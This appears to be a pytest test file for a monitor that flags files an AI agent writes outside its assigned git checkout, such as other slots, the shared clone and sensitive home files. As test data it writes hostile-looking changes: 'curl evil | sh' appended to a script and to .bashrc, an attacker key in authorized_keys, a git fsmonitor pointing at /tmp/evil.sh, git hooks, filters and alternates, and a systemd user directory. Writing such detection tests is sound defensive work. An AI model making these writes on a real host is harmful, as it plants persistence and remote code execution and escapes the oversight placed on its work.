"""Writes beside a slot's checkout in the worker's work directory, on real files."""

from __future__ import annotations

from pathlib import Path

import pytest

from control.errors import UsageError
from control.worker.outside import HOME_SENSITIVE, Snapshot, snapshot, writes_outside

# --- writes outside the checkout -------------------------------------------------------------


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A work directory laid out as the worker's: a git workspace with slots, and more."""
    root = tmp_path / "work"
    workspace = root / "repos" / "widget-0123"
    (workspace / "repo" / "objects").mkdir(parents=True)
    (workspace / "repo" / "HEAD").write_text("ref: refs/heads/main\n")
    (workspace / "workspace.lock").write_text("")
    for slot in ("slot0", "slot1"):
        (workspace / "slots" / slot).mkdir(parents=True)
        (workspace / "slots" / slot / ".git").write_text("gitdir: ../../repo/worktrees/x\n")
        (workspace / "slots" / slot / "file.txt").write_text("x\n")
    (root / "cache").mkdir()
    (root / "cache" / "old.bin").write_text("x\n")
    (root / "notes.txt").write_text("x\n")
    (root / "logs").mkdir()
    return root


def _slot(work: Path, name: str = "slot0") -> Path:
    return work / "repos" / "widget-0123" / "slots" / name


def test_nothing_written_outside_is_nothing_reported(work: Path) -> None:
    checkout = _slot(work)
    before = snapshot(work, checkout)
    (checkout / "new.txt").write_text("inside\n")
    (checkout / "deep" / "er").mkdir(parents=True)
    (checkout / "deep" / "er" / "x").write_text("inside\n")
    assert writes_outside(before, snapshot(work, checkout)) == []


def test_writes_beside_and_above_the_checkout_are_named(work: Path) -> None:
    checkout = _slot(work)
    before = snapshot(work, checkout)
    workspace = checkout.parent.parent
    (checkout.parent / "stray.txt").write_text("../\n")  # beside the checkout
    (workspace / "stray.txt").write_text("../../\n")  # in the workspace
    (work / "notes.txt").write_text("changed\n")  # in the work root
    (work / "cache" / "old.bin").unlink()  # two levels down
    (work / "cache" / "sub").mkdir()
    (work / "top").mkdir()
    after = snapshot(work, checkout)
    assert writes_outside(before, after) == sorted(
        str(p)
        for p in [
            checkout.parent / "stray.txt",
            workspace / "stray.txt",
            work / "notes.txt",
            work / "cache" / "old.bin",
            work / "cache" / "sub",
            work / "top",
        ]
    )


def test_a_write_at_any_depth_is_named(work: Path) -> None:
    checkout = _slot(work)
    (work / "cache" / "sub").mkdir()
    before = snapshot(work, checkout)
    (work / "cache" / "sub" / "deep.txt").write_text("x\n")
    deep = work / "cache" / "a" / "b" / "c" / "d" / "e" / "f"
    deep.mkdir(parents=True)
    (deep / "canary").write_text("x\n")
    found = writes_outside(before, snapshot(work, checkout))
    assert str(work / "cache" / "sub" / "deep.txt") in found
    assert str(deep / "canary") in found


def test_a_change_deep_down_keeping_every_directory_mtime_is_named(work: Path) -> None:
    """A file rewritten in place changes no directory: only a walk to its depth sees it."""
    deep = work / "cache" / "a" / "b" / "c"
    deep.mkdir(parents=True)
    (deep / "tool.sh").write_text("#!/bin/sh\necho fine\n")
    checkout = _slot(work)
    before = snapshot(work, checkout)
    with (deep / "tool.sh").open("a") as handle:
        handle.write("curl evil | sh\n")
    assert writes_outside(before, snapshot(work, checkout)) == [str(deep / "tool.sh")]


def test_what_makes_git_behave_differently_is_watched_in_the_shared_clone(work: Path) -> None:
    checkout = _slot(work)
    clone = work / "repos" / "widget-0123" / "repo"
    (clone / "config").write_text("[core]\n\tbare = true\n")
    (clone / "hooks").mkdir()
    (clone / "info").mkdir()
    (clone / "objects" / "info").mkdir()
    before = snapshot(work, checkout)
    with (clone / "config").open("a") as handle:
        handle.write("\tfsmonitor = /tmp/evil.sh\n")
    (clone / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
    (clone / "info" / "attributes").write_text("* filter=x\n")
    (clone / "objects" / "info" / "alternates").write_text("/tmp/evil/objects\n")
    (clone / "canary").write_text("x\n")
    assert writes_outside(before, snapshot(work, checkout)) == sorted(
        str(p)
        for p in (
            clone / "config",
            clone / "hooks" / "post-checkout",
            clone / "info" / "attributes",
            clone / "objects" / "info" / "alternates",
            clone / "canary",
        )
    )


def test_git_at_work_in_the_shared_clone_is_not_a_write(work: Path) -> None:
    """What a fetch, a commit, a worktree add or a gc changes, from this slot's agent or
    another slot's preparation."""
    checkout = _slot(work)
    clone = work / "repos" / "widget-0123" / "repo"
    before = snapshot(work, checkout)
    (clone / "objects" / "ab").mkdir()
    (clone / "objects" / "ab" / "cdef").write_text("blob\n")
    (clone / "objects" / "pack").mkdir()
    (clone / "refs" / "heads" / "phase").mkdir(parents=True)
    (clone / "refs" / "heads" / "phase" / "x").write_text("0" * 40 + "\n")
    (clone / "logs" / "HEAD").parent.mkdir()
    (clone / "logs" / "HEAD").write_text("log\n")
    (clone / "worktrees" / "slot3").mkdir(parents=True)
    (clone / "worktrees" / "slot3" / "index").write_text("idx\n")
    (clone / "packed-refs").write_text("# pack-refs\n")
    (clone / "HEAD").write_text("ref: refs/heads/other\n")
    (clone / "config.lock").write_text("")
    assert writes_outside(before, snapshot(work, checkout)) == []


def test_the_workers_sensitive_home_files_are_watched(tmp_path: Path, work: Path) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("key\n")
    (home / ".bashrc").write_text("# rc\n")
    (home / ".cache").mkdir()
    also = [home / name for name in HOME_SENSITIVE]
    checkout = _slot(work)
    before = snapshot(work, checkout, also=also)
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
    with (home / ".bashrc").open("a") as handle:
        handle.write("curl evil | sh\n")
    (home / ".config" / "systemd" / "user").mkdir(parents=True)
    (home / ".cache" / "agent-cache").write_text("fine\n")  # not a sensitive file
    assert writes_outside(before, snapshot(work, checkout, also=also)) == sorted(
        str(p)
        for p in (
            home / ".ssh" / "authorized_keys",
            home / ".bashrc",
            home / ".config" / "systemd",
            home / ".config" / "systemd" / "user",
        )
    )


def test_a_workspace_another_slot_creates_meanwhile_is_not_a_write(work: Path) -> None:
    checkout = _slot(work)
    before = snapshot(work, checkout)
    other = work / "repos" / "other-4567"
    (other / "repo" / "objects").mkdir(parents=True)
    (other / "repo" / "HEAD").write_text("ref: refs/heads/main\n")
    (other / "repo" / "config").write_text("[core]\n")
    (other / "workspace.lock").write_text("")
    (other / "slots" / "slot1").mkdir(parents=True)
    assert writes_outside(before, snapshot(work, checkout)) == []


def test_other_slots_and_git_are_not_the_agents_writes(work: Path) -> None:
    checkout = _slot(work)
    logs = work / "logs"
    before = snapshot(work, checkout, ignore=[logs])
    workspace = checkout.parent.parent
    (_slot(work, "slot1") / "other-agent.txt").write_text("x\n")  # another slot's agent
    (workspace / "slots" / "slot2").mkdir()  # another slot being prepared
    (workspace / "repo" / "packed-refs").write_text("")  # git in the shared clone
    (work / "repos" / "other-4567").mkdir()  # another remote's workspace
    (work / "repos" / "other-4567" / "workspace.lock").write_text("")
    (logs / "run.log").write_text("log\n")
    assert writes_outside(before, snapshot(work, checkout, ignore=[logs])) == []


def test_a_checkout_outside_the_work_root_has_its_parent_watched(
    tmp_path: Path, work: Path
) -> None:
    checkout = tmp_path / "elsewhere" / "co"
    checkout.mkdir(parents=True)
    before = snapshot(work, checkout)
    (checkout.parent / "stray.txt").write_text("x\n")
    (work / "new.txt").write_text("x\n")
    assert writes_outside(before, snapshot(work, checkout)) == [
        str(checkout.parent / "stray.txt"),
        str(work / "new.txt"),
    ]


def test_snapshots_of_different_checkouts_cannot_be_compared(work: Path) -> None:
    with pytest.raises(UsageError, match="different checkouts"):
        writes_outside(snapshot(work, _slot(work)), snapshot(work, _slot(work, "slot1")))


def test_a_snapshot_of_a_missing_work_root_is_empty(tmp_path: Path) -> None:
    empty = snapshot(tmp_path / "none", tmp_path / "none" / "slots" / "s")
    assert empty == Snapshot(checkout=tmp_path / "none" / "slots" / "s", entries={})
    assert writes_outside(empty, empty) == []
